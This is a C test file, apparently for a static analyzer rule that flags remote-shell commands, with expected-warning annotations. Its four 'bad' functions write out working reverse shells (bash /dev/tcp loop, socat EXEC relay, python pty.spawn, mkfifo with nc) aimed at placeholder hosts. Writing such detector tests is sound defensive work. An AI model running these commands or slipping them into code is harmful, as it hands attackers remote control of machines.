// A command that joins a shell and a connection by itself.
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

void bad_device(void) {
    // expected-warning-re@+1 {{{{.*}}[vitrine: update/remote-shell]}}
    system("bash -c 'exec 5<>/dev/tcp/198.51.100.4/8080; while read l <&5; do $l >&5; done' &");
}

void bad_relay(void) {
    char *words[] = {"socat", "TCP:relay.example.com:443", "EXEC:/bin/bash,pty,stderr,setsid",
                     NULL};
    if (fork() == 0) {
        // expected-warning-re@+1 {{{{.*}}[vitrine: update/remote-shell]}}
        execvp(words[0], words);
        _exit(1);
    }
}

void bad_interpreter(void) {
    // expected-warning-re@+1 {{{{.*}}[vitrine: update/remote-shell]}}
    execlp("python3", "python3", "-c",
           "import socket,os,pty;s=socket.create_connection((\"192.0.2.7\",9));"
           "[os.dup2(s.fileno(),i) for i in range(3)];pty.spawn(\"sh\")",
           (char *)NULL);
}

void bad_queue(void) {
    char line[256];
    snprintf(line, sizeof line, "mkfifo %s; cat %s | sh -i 2>&1 | nc 192.0.2.7 9 >%s", "/tmp/.q",
             "/tmp/.q", "/tmp/.q");
    // expected-warning-re@+1 {{{{.*}}[vitrine: update/remote-shell]}}
    system(line);
}

/* Is somebody there? */
void good_question(void) {
    system("bash -c 'echo > /dev/tcp/127.0.0.1/8080' && logger up");
    system("nc -z -w 1 127.0.0.1 8080 || logger down");
}

void good_relay(void) {
    char *words[] = {"socat", "-u", "FILE:/dev/ttyS0,b9600", "TCP:log.example.com:514", NULL};
    if (fork() == 0) {
        execvp(words[0], words);
        _exit(1);
    }
}

void good_interpreter(void) {
    execlp("python3", "python3", "-c", "import socket;print(socket.gethostname())", (char *)NULL);
    system("echo status | nc -w 1 127.0.0.1 8080 | sh /usr/share/app/show.sh");
}
